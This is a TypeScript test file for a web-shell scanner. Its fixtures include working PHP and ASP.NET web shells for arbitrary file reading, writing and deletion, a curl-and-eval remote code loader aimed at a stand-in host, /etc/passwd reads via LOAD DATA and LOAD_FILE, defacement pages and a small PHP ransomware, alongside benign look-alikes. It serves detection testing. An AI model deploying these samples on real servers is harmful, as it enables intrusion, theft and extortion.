import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// The misses of session 42's fair samples (bench/redteam/README-corpus-s42.md), each written again by us, and the
// look-alikes that must not be malicious.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

const PAGES: [string, string, string][] = [
  [
    'a file manager whose folder is the query\'s or a default of its own, writing, deleting and listing there (H35)',
    '/srv/www/fm.php',
    `<?php\n$home = getcwd();\n$dir = $_GET['d'] ?? $home;\nif (isset($_POST['rm'])) {\n  $p = $_POST['rm'];\n  if (is_file($p)) unlink($p);\n}\nif (isset($_POST['name'])) {\n  $to = $_POST['to'] ?? $dir;\n  $t = rtrim($to, DIRECTORY_SEPARATOR) . DIRECTORY_SEPARATOR . $_POST['name'];\n  file_put_contents($t, $_POST['body'] ?? '');\n}\nforeach (scandir($dir) as $e) echo htmlspecialchars($e), "<br>";\n`,
  ],
  [
    'the same with the default in a ternary and the path read out (H35)',
    '/srv/www/fm2.php',
    `<?php\n$start = __DIR__;\n$at = isset($_GET['at']) ? $_GET['at'] : $start;\nif (!empty($_GET['del'])) unlink($at . '/' . $_GET['del']);\nif (!empty($_GET['show'])) echo htmlspecialchars(file_get_contents($at . '/' . $_GET['show']));\n`,
  ],
  [
    'a loader evaluating what a function of its own fetches with curl, "?>" held in a variable first (H35)',
    '/srv/www/wp-content/l.php',
    `<?php\nini_set('lsapi_backend_off', '1');\nfunction pull($u) {\n  $h = curl_init($u);\n  curl_setopt($h, CURLOPT_RETURNTRANSFER, true);\n  $r = curl_exec($h);\n  curl_close($h);\n  return $r;\n}\n$open = '?>';\neval($open . pull(base64_decode('aHR0cDovL2V4YW1wbGUuaW52YWxpZC9wLnR4dA==')));\n`,
  ],
  [
    'an ASP.NET page listing and reading any path given base64 in the query (H37)',
    '/inetpub/wwwroot/v.aspx',
    `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<%\nstring p64 = Request.QueryString["p"];\nstring what = Request.QueryString["do"] ?? "ls";\nstring target = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(p64));\nif (what == "ls") {\n  foreach (string d in Directory.GetDirectories(target)) Response.Write(Server.HtmlEncode(d) + "<br>");\n  foreach (string f in Directory.GetFiles(target)) Response.Write(Server.HtmlEncode(f) + "<br>");\n} else {\n  Response.Write("<pre>" + Server.HtmlEncode(File.ReadAllText(target)) + "</pre>");\n}\n%>\n`,
  ],
  [
    'an ASP.NET page deleting any path and writing a file whose text comes base64 in the query too (H37)',
    '/inetpub/wwwroot/w.aspx',
    `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<%\nstring at = Encoding.UTF8.GetString(Convert.FromBase64String(Request["at"]));\nswitch (Request["op"]) {\n  case "rm": if (File.Exists(at)) File.Delete(at); else Directory.Delete(at, true); break;\n  case "put": File.WriteAllText(at, Encoding.UTF8.GetString(Convert.FromBase64String(Request["text"]))); break;\n}\n%>\n`,
  ],
  [
    'a page reading the file a form names through LOAD DATA LOCAL INFILE into a table it makes (H36)',
    '/srv/www/my.php',
    `<?php
session_start();
foreach (['h', 'u', 'p', 'd'] as $k) if (isset($_POST[$k])) $_SESSION[$k] = $_POST[$k];
if (!empty($_POST['file'])) {
  $c = mysqli_connect($_SESSION['h'], $_SESSION['u'], $_SESSION['p'], $_SESSION['d']);
  $f = $_POST['file'];
  mysqli_query($c, "DROP TABLE IF EXISTS t1");
  mysqli_query($c, "CREATE TABLE t1 (line TEXT)");
  mysqli_query($c, "LOAD DATA LOCAL INFILE '$f' INTO TABLE t1");
  $r = mysqli_query($c, "SELECT * FROM t1");
  while ($row = mysqli_fetch_row($r)) echo htmlspecialchars($row[0]), "\n";
}
?>
<form method="post"><input name="file" value="/etc/passwd"><button>Read</button></form>
`,
  ],
  [
    'a defacement page kept as .php: hacked by in its title, a marquee and music (H38)',
    '/srv/www/index.php',
    `<html><head><title>~ Hacked by Nobody ~</title></head>\n<body style="background:#000;color:#0f0">\n<h1>Your site was tested</h1>\n<marquee>Thanks to all my friends</marquee>\n<audio autoplay src="https://example.invalid/song.mp3"></audio>\n</body></html>\n`,
  ],
  [
    'a defacement page saying so in its og:title, with greetings (H38)',
    '/srv/www/x.php',
    `<!DOCTYPE html><html><head>\n<meta content="HACKED By Q" property="og:title">\n<title>oops</title></head>\n<body><h2>No System Is Safe</h2><marquee>Greetz: all crews</marquee></body></html>\n`,
  ],
  [
    'PHP ransomware encrypting every file of its folder and asking for bitcoin (H38)',
    '/srv/www/r.php',
    `<?php
if (isset($_POST['k'])) {
  foreach (glob(__DIR__ . '/*') as $f) {
    if (!is_file($f) || $f === __FILE__) continue;
    $iv = random_bytes(16);
    file_put_contents($f . '.locked', base64_encode($iv . openssl_encrypt(file_get_contents($f), 'aes-256-cbc', $_POST['k'], OPENSSL_RAW_DATA, $iv)));
    unlink($f);
  }
}
?>
<h1>Your files are encrypted</h1><p>Send 0.01 BTC to wallet bc1qexample to get the key.</p>
`,
  ],
];

// Red team S42R's evasions of this session's changes (bench/redteam/README-corpus-s42.md), written again by us.
const VARIANTS: [string, string, string][] = [
  [
    'the default in brackets with a slash joined after it (S42R-13)',
    '/srv/www/fm3.php',
    `<?php
$home = getcwd();
$dir = ($_GET['d'] ?? $home) . '/';
if (isset($_GET['rm'])) unlink($dir . $_GET['rm']);
if (isset($_POST['n'])) file_put_contents($dir . $_POST['n'], $_POST['c']);
foreach (scandir($dir) as $e) echo $e, "<br>";
`,
  ],
  [
    'an ASP.NET handler deleting and writing paths its context\'s request names (S42R-18)',
    '/inetpub/wwwroot/h.ashx',
    `<%@ WebHandler Language="C#" Class="H" %>
using System.IO; using System.Web;
public class H : IHttpHandler {
  public bool IsReusable { get { return false; } }
  public void ProcessRequest(HttpContext ctx) {
    string at = ctx.Request["at"];
    if (ctx.Request["op"] == "rm") File.Delete(at); else File.WriteAllText(at, ctx.Request["text"]);
  }
}
`,
  ],
  [
    'an ASP.NET page sending any file through TransmitFile and listing folders, the path base64 inside a URL decode (S42R-16)',
    '/inetpub/wwwroot/t.aspx',
    `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%
string p = Encoding.UTF8.GetString(Convert.FromBase64String(HttpUtility.UrlDecode(Request["p"])));
foreach (string f in Directory.EnumerateFileSystemEntries(p)) Response.Write(f + "<br>");
if (Request["get"] == "1") Response.TransmitFile(p);
%>
`,
  ],
  [
    'a file read through LOAD_FILE() of a path the cookie names (S42R-20, -21)',
    '/srv/www/lf.php',
    `<?php
$db = new mysqli('localhost', $_COOKIE['u'], $_COOKIE['p']);
$f = $_COOKIE['f'];
$r = $db->query("SELECT LOAD_FILE('$f')");
echo $r->fetch_row()[0];
`,
  ],
];

const LOOKALIKES: [string, string, string][] = [
  [
    'a blog post titled after a defacer, quoting his greetings and his marquee (S42B-8)',
    '/srv/www/wp-content/cache/story.html',
    `<html><head><title>Hacked By Daemon: the story of a 90s defacer | TechBlog</title></head>\n<body><p>His pages ended with "Greetz to all crews" and a <code>&lt;marquee&gt;</code>; we show one:</p><marquee>No system is safe</marquee></body></html>\n`,
  ],
  [
    'a notes app encrypting each note file at rest, saying so, with a paid plan',
    '/srv/www/notes/save.php',
    `<?php\n// Your files are encrypted at rest with AES-256. Upgrade: pay once to unlock sync.\nforeach (glob(__DIR__ . '/notes/*.txt') as $f) {\n  $iv = random_bytes(16);\n  file_put_contents($f . '.enc', $iv . openssl_encrypt(file_get_contents($f), 'aes-256-cbc', NOTES_KEY, OPENSSL_RAW_DATA, $iv));\n}\n`,
  ],
  [
    'a news page cached under a headline saying a retailer was hacked by a gang',
    '/srv/www/wp-content/cache/page/retailer.html',
    `<!DOCTYPE html><html><head><title>Retailer hacked by ransomware gang, customers told to change passwords</title>\n<meta property="og:title" content="Retailer hacked by ransomware gang"></head>\n<body><article><h1>Retailer hacked by ransomware gang</h1><p>Thanks to quick work by its staff, the shop reopened.</p>\n<iframe src="https://www.youtube.com/embed/abc"></iframe></article></body></html>\n`,
  ],
  [
    'a backup plugin encrypting its archives of the site, which says it guards against ransomware',
    '/srv/www/wp-content/plugins/safe-backup/backup.php',
    `<?php
// Encrypted off-site backups: your best protection against ransomware.
function sb_backup($key) {
  $out = '';
  foreach (glob(ABSPATH . 'wp-content/uploads/*') as $f) $out .= basename($f) . "\n" . base64_encode(file_get_contents($f)) . "\n";
  $iv = random_bytes(16);
  file_put_contents(WP_CONTENT_DIR . '/backups/' . date('Ymd') . '.enc', $iv . openssl_encrypt($out, 'aes-256-cbc', $key, OPENSSL_RAW_DATA, $iv));
}
`,
  ],
  [
    'a dispatcher whose action a ternary checks against a list before its default (S42R-1)',
    '/srv/www/app.php',
    `<?php
$default = 'home';
$actions = ['home', 'list', 'show'];
$action = isset($_GET['a']) && in_array($_GET['a'], $actions, true) ? $_GET['a'] : $default;
$handler = 'action_' . $action;
$handler();
`,
  ],
  [
    'an exporter calling export_ and the format the query asks, or its default (S42R-2)',
    '/srv/www/export.php',
    `<?php
$defaultFormat = 'csv';
$format = $_GET['format'] ?? $defaultFormat;
$fn = 'export_' . $format;
if (!function_exists($fn)) $fn = 'export_csv';
call_user_func($fn, $rows);
$fn($rows);
`,
  ],
  [
    'an installer loading the CSV it ships through LOAD DATA when its button is pressed (S42R-7)',
    '/srv/www/install/geo.php',
    `<?php
if (isset($_POST['install'])) {
  $csv = __DIR__ . '/data/countries.csv';
  $db->query("CREATE TABLE IF NOT EXISTS geo (net TEXT, cc CHAR(2))");
  $db->query("LOAD DATA LOCAL INFILE '$csv' INTO TABLE geo FIELDS TERMINATED BY ','");
  echo $db->query("SELECT COUNT(*) FROM geo")->fetch_row()[0];
}
`,
  ],
  [
    'an ASP.NET log viewer setting the log back to its list when the query names another (S42R-5)',
    '/inetpub/wwwroot/admin/logs.aspx',
    `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
static readonly string[] Logs = { @"D:\logs\app.log", @"D:\logs\jobs.log" };
</script>
<%
string log = Request.QueryString["log"];
if (!Logs.Contains(log)) log = Logs[0];
if (Request.QueryString["clear"] == "1") { File.Delete(log); File.WriteAllText(log, ""); }
Response.Write(Server.HtmlEncode(File.ReadAllText(log)));
%>
`,
  ],
  [
    'a CSV importer loading the uploaded file into a table it makes',
    '/srv/www/admin/import.php',
    `<?php
require 'auth.php';
if (isset($_POST['go'], $_FILES['csv'])) {
  $tmp = $_FILES['csv']['tmp_name'];
  $db->query("CREATE TABLE IF NOT EXISTS staging (a TEXT, b TEXT)");
  $db->query("LOAD DATA LOCAL INFILE '$tmp' INTO TABLE staging FIELDS TERMINATED BY ','");
  echo $db->query("SELECT COUNT(*) FROM staging")->fetch_row()[0], ' rows';
}
`,
  ],
  [
    'a page choosing its template from the query or a default, checked against a list',
    '/srv/www/index.php',
    `<?php\n$default = 'home';\n$page = $_GET['page'] ?? $default;\nif (!in_array($page, ['home', 'about', 'contact'], true)) $page = $default;\necho '<h1>' . htmlspecialchars($page) . '</h1>';\nreadfile(__DIR__ . '/pages/' . $page . '.html');\n`,
  ],
  [
    'a template engine evaluating its compiled template from a local cache file after "?>"',
    '/srv/www/lib/tpl.php',
    `<?php\nfunction render($name, array $vars) {\n  $close = '?>';\n  $cached = __DIR__ . '/cache/' . md5($name) . '.php';\n  extract($vars);\n  eval($close . file_get_contents($cached));\n}\n`,
  ],
  [
    'an ASP.NET document viewer reading files under its own folder',
    '/inetpub/wwwroot/docs.aspx',
    `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<%\nstring root = Server.MapPath("~/docs");\nforeach (string f in Directory.GetFiles(root)) Response.Write(Path.GetFileName(f) + "<br>");\nstring name = Request.QueryString["f"];\nif (!string.IsNullOrEmpty(name)) Response.Write(Server.HtmlEncode(File.ReadAllText(Path.Combine(root, Path.GetFileName(name)))));\n%>\n`,
  ],
  [
    'an ASP.NET admin page whose paths are held under its root',
    '/inetpub/wwwroot/admin/files.aspx',
    `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<%\nstring root = @"D:\\sites\\shop\\uploads\\";\nstring p = Encoding.UTF8.GetString(Convert.FromBase64String(Request["p"]));\nif (!Path.GetFullPath(p).StartsWith(root, StringComparison.OrdinalIgnoreCase)) { Response.StatusCode = 403; return; }\nforeach (string f in Directory.GetFiles(p)) Response.Write(f + "<br>");\nif (Request["rm"] == "1") File.Delete(p);\n%>\n`,
  ],
];

describe('scan: session 42 samples, the misses written again', () => {
  for (const [name, path, src] of PAGES) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every page', () => assert.equal(PAGES.length, 9));
  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 13));
  for (const [name, path, src] of VARIANTS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every variant', () => assert.equal(VARIANTS.length, 4));
});
